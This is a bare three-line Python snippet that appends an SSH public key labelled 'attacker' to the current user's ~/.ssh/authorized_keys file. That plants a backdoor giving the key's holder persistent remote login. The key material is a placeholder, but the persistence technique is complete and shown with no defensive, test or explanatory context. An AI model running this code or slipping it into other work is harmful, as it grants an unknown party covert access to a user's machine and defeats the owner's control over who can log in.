import os
with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as handle:
    handle.write('ssh-ed25519 AAAA attacker')
